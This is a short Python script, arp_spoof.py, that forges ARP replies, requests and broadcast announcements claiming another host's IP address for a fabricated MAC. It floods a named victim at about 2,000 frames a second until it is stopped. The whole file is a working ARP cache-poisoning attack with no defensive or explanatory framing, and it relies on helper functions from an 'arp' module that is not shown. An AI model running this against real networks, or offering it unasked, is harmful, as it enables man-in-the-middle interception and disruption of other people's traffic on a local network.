#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""arp_spoof.py INTERFACE VICTIM_IP VICTIM_MAC CLAIMED_IP: tells the victim some 2,000 times a
second, by answers that nobody asked for, by questions and as news for everybody, that the claimed
address is here, until it is ended."""

import socket
import sys

from arp import arp_frame, send_until_ended


def main():
    interface, victim_ip, victim_mac, claimed_ip = sys.argv[1:5]
    here = bytes([2, 0x66, 0x66, 0x66, 0x66, 0x66])
    there = bytes.fromhex(victim_mac.replace(":", ""))
    victim, claimed = socket.inet_aton(victim_ip), socket.inet_aton(claimed_ip)

    def claim(destination, operation, target_mac, target_ip):
        return arp_frame(destination, operation, here, claimed, target_mac, target_ip)

    frames = [claim(there, 2, there, victim), claim(there, 1, bytes(6), victim),
              claim(b"\xff" * 6, 1, bytes(6), victim), claim(b"\xff" * 6, 2, bytes(6), claimed)]
    send_until_ended(interface, 5 * frames)


if __name__ == "__main__":
    main()
